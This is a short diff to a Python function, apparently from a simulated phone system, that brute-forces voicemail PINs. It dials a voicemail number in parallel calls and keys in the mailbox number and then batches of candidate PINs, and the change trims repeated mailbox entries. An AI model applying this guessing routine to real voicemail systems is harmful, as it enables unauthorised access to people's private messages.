@@ -32,7 +32,9 @@ def guess_pins(
     for first in range(0, len(pins), TRIES_PER_CALL):
         keys: list[tuple[str, float]] = []
         for pin in pins[first : first + TRIES_PER_CALL]:
-            keys += [(f"{mailbox}#", 1.0), (f"{pin}#", 0.5)]
+            if not keys or not company.mailbox_asked_once:
+                keys.append((f"{mailbox}#", 1.0))
+            keys.append((f"{pin}#", 0.7))
         running.append(company.outside_call(VOICEMAIL_NUMBER, caller=caller, keys=tuple(keys), holds_s=0.5))
         if len(running) == 2:
             seen += [call.wait() for call in running]
